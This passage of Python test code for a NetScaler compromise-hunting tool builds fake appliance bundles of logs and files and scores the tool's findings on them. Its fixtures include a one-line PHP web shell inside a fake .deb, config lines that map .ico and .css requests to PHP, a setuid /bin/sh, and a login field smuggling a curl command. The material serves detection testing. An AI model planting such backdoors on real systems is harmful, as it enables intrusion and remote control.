        S("2026-10-25T00:30:00", MSG, "Oct 25 02:30:00 ns1 pitboss[12]: pitboss NOT restarting NSPPE", R),
        S("2026-10-25T00:28:00", NS, "Oct 25 02:28:00 " + NSL.format("10/25/2026:00:28:00") + 'SSLLOG SSL_HANDSHAKE_FAILURE 5 0 : SPCBId 7 - ClientIP 203.0.113.5 - ClientVersion DTLSv1.2 - Reason "Internal Error"', ()),
        S("2026-09-12T08:04:00", MSG, "Sep 12 10:04:00 ns1 pitboss[12]: PPE unexpectedly died", L),
        S("2026-09-13T08:04:00", NS, "Sep 13 10:04:00 " + NSL.format("09/13/2026:08:04:00") + 'AAA Message 5 0 : "login failed for user `curl 203.0.113.9/a`"', L),
        S("2026-09-14T08:00:00", VPN, '203.0.113.5 - - [14/Sep/2026:10:00:00 +0200] "POST /vpn/media/logo.ico HTTP/1.1" 200 4 "-" "x"', C),
        S("2026-09-14T08:01:00", VPN, '203.0.113.5 - - [14/Sep/2026:10:01:00 +0200] "POST /logon/LogonPoint/receiver/css/receiver.min.0a1b2c.css HTTP/1.1" 200 4 "-" "x"', C),
        S("2026-09-14T08:02:00", VPN, '203.0.113.5 - - [14/Sep/2026:10:02:00 +0200] "GET /logon/LogonPoint/Authentication/GetUserName HTTP/1.1" 404 70000 "-" "x"', L),
        S("2026-09-14T08:03:00", BASH, 'Sep 14 10:03:00 <local7.notice> ns bash[3]: root on (null) shell_command="chmod 4755 /bin/sh"', C),
        F("/etc/httpd.conf", 'AddHandler application/x-httpd-php .sig\nAliasMatch "^/vpn/media/.*\\.ico$" "/var/x.php"\n', C),
        F("/nsconfig/httpd.conf", "AliasMatch ^/receiver.min.[0-9a-f]+.css /var/tmp/x\n", C),
        F("/var/netscaler/logon/LogonPoint/custom/.ctxs.receiver", "x", C),
        F("/netscaler/ns_gui/vpn/scripts/linux/nsgcepa.deb", "!<arch>\n<?php system($_SERVER['HTTP_X_UX']);", C),
        F("/netscaler/ns_gui/vpn/media/x.ico", "<?php ", C),
        F("/bin/sh", b"\x7fELF", C, 0o4555),
        F("/tmp/.uxdport", "31337\n", C),
        F("/tmp/.uxdlock", "", C),
        F("/var/netscaler/logon/LogonPoint/custom/strings.php", "x", C),
        F("/var/nslog/x", b"\x7fELF", C, 0o4755),
        F("/volatile/open.txt", "root x 1 /tmp 4 /tmp/.uxdlock rw\n", C),
        F("/var/core/1/NSPPE-1", b"\0NSC_LDAP: x\0", L),
    ),
    (
        S("2026-10-01T08:00:00", VPN, '192.0.2.7 - - [01/Oct/2026:10:00:00 +0200] "GET /missing HTTP/1.1" 404 9000 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"'),
        S("2026-10-01T08:01:00", VPN, '192.0.2.7 - - [01/Oct/2026:10:01:00 +0200] "GET /vpn/media/citrix.ico HTTP/1.1" 200 9000 "-" "Mozilla/5.0"'),
        S("2026-10-01T08:02:00", VPN, '192.0.2.7 - - [01/Oct/2026:10:02:00 +0200] "POST /vpn/media/logo.ico HTTP/1.1" 404 9 "-" "Mozilla/5.0"'),
        S("2026-10-01T08:03:00", VPN, '192.0.2.7 - - [01/Oct/2026:10:03:00 +0200] "GET /missing HTTP/1.1" 404 9000 "-" "CitrixReceiver/com.citrix.receiver.nativeiPhone/26.1.0 (iOS 19; iPhone15,3)"'),
        S("2026-10-01T08:04:00", VPN, '192.0.2.7 - - [01/Oct/2026:10:04:00 +0200] "GET /missing HTTP/1.1" 404 9000 "-" "Apache-HttpClient/4.5.13 (Java/11.0.2)"'),
        S("2026-10-01T08:05:00", VPN, '192.0.2.7 - - [01/Oct/2026:10:05:00 +0200] "GET /x HTTP/1.1" 200 9 "-" "Mozilla/5.0 (compatible; id; uname)"'),
        S("2026-10-02T08:00:00", MSG, "Oct  2 10:00:00 ns1 pitboss[12]: PPE unexpectedly died"),
        S("2026-10-02T08:30:00", NS, "Oct  2 10:30:00 " + NSL.format("10/02/2026:08:30:00") + 'SSLLOG SSL_HANDSHAKE_FAILURE 5 0 : SPCBId 7 - ClientVersion DTLSv1.2 - Reason "Internal Error"'),
        S("2026-10-03T08:00:00", NS, "Oct  3 10:00:00 " + NSL.format("10/03/2026:08:00:00") + 'SSLLOG SSL_HANDSHAKE_FAILURE 5 0 : SPCBId 7 - ClientVersion TLSv1.2 - Reason "Internal Error"'),
        S("2026-10-03T08:02:00", MSG, "Oct  3 10:02:00 ns1 pitboss[12]: PPE unexpectedly died"),
        S("2026-10-04T08:02:00", BASH, 'Oct  4 10:02:00 <local7.notice> ns bash[3]: root on /dev/pts/0 shell_command="chmod 0755 /var/tmp/x.sh"'),
        F("/etc/httpd.conf", 'AddType application/x-debian-package .deb\nAlias "/vpn/media" "/netscaler/ns_gui/vpn/media"\nAddHandler application/x-httpd-php .php\n'),
        F("/netscaler/ns_gui/vpn/scripts/linux/nsepa.deb", "!<arch>\ndebian-binary   1\n"),
        F("/netscaler/ns_gui/vpn/media/citrix.ico", b"\0\0\1\0"),
        F("/var/netscaler/logon/LogonPoint/custom/script.js", "var x = evaluate(1);"),
        F("/bin/sh", b"\x7fELF", (), 0o555),
        F("/tmp/.X11-unix", ""),
        F("/var/netscaler/logon/LogonPoint/custom/.placeholder", ""),
    ),
)  # fmt: skip
GROUPS = (G2019, G2023, G2025, G2026)


def lay(things: tuple[S | F, ...], into: Path, filler: dict[str, list[S]] | None = None) -> Path:
    """Write one appliance as a packed tar: logs in the order of time, the older half of each as a packed archive."""
    logs: dict[str, list[S]] = {}
    for one in things:
        if isinstance(one, S):
            logs.setdefault(one.log, []).append(one)
    for log, lines in (filler or {}).items():
        logs.setdefault(log, []).extend(lines)
    with tarfile.open(into, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for one in things:
            if isinstance(one, F):
                _add(tar, one)
        for log, lines in logs.items():
            ordered = sorted(lines, key=lambda one: one.at)
            half = len(ordered) // 2
            for name, part in ((log, ordered[half:]), (f"{log}.0.gz", ordered[:half])):
                raw = b"".join(_bytes(one.text) + b"\n" for one in part)
                mtime = part[-1].at if part else "2019-01-01T00:00:00"
                packed = gzip.compress(raw, mtime=0) if name.endswith(".gz") else raw
                _add(tar, F(name, packed, mode=0o600, mtime=mtime))
    return into


def moment(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def _add(tar: tarfile.TarFile, file: F) -> None:
    about = tarfile.TarInfo("ns" + file.path)
    content = _bytes(file.content)
    about.size, about.mode, about.uid, about.gid = len(content), file.mode, file.uid, file.gid
    about.mtime = int(moment(file.mtime).timestamp())
    if file.born:
        about.pax_headers = {"LIBARCHIVE.creationtime": str(moment(file.born).timestamp())}
    tar.addfile(about, io.BytesIO(content))


def found_at(
    group: Group, things: tuple[S | F, ...], folder: Path
) -> tuple[dict[tuple[str, str], list[Finding]], HuntResult]:
    """The findings by log and line, or by file, and the whole result."""
    bundle = lay(things, folder / "bundle.tgz")
    result = hunted(bundle, group.pack, window=window(*group.window), collected_at=utc(group.collected))
    places = defaultdict(list)
    for one in result.findings:
        path = "/" + (one.place.member or "").removeprefix("ns/").removesuffix(".0.gz" if one.line else "\0")
        places[path, one.text if path.startswith("/var/log/") else ""].append(one)
    return places, result


def place_of(thing: S | F) -> tuple[str, str]:
    if isinstance(thing, F):
        return thing.path, ""
    raw = thing.text if isinstance(thing.text, bytes) else thing.text.encode()
    return thing.log, raw.decode("utf-8", "backslashreplace")


def right(sign: S | F, own: Sequence[Finding]) -> bool:
    """Return whether what was found on a sign is of a right class, and nothing strong where nothing strong is right."""
    classes = {one.finding_class.value for one in own}
    wanted = set(sign.classes)
    return (not wanted or bool(classes & wanted)) and (classes.isdisjoint(STRONG) or bool(wanted & set(STRONG)))


def scored(group: Group, folder: Path) -> tuple[int, int, int, int]:
    """Return the signs of a group, how many were found for what they are, the look-alikes, and strong findings there."""
    places, _ = found_at(group, group.signs, folder)
    signs = [sign for sign in group.signs if sign.classes]
    found = sum(right(sign, places[place_of(sign)]) for sign in signs)
    _, result = found_at(group, group.alike, folder)
    strong = sum(one.finding_class.value in STRONG for one in result.findings)
    return len(signs), found, len(group.alike), strong
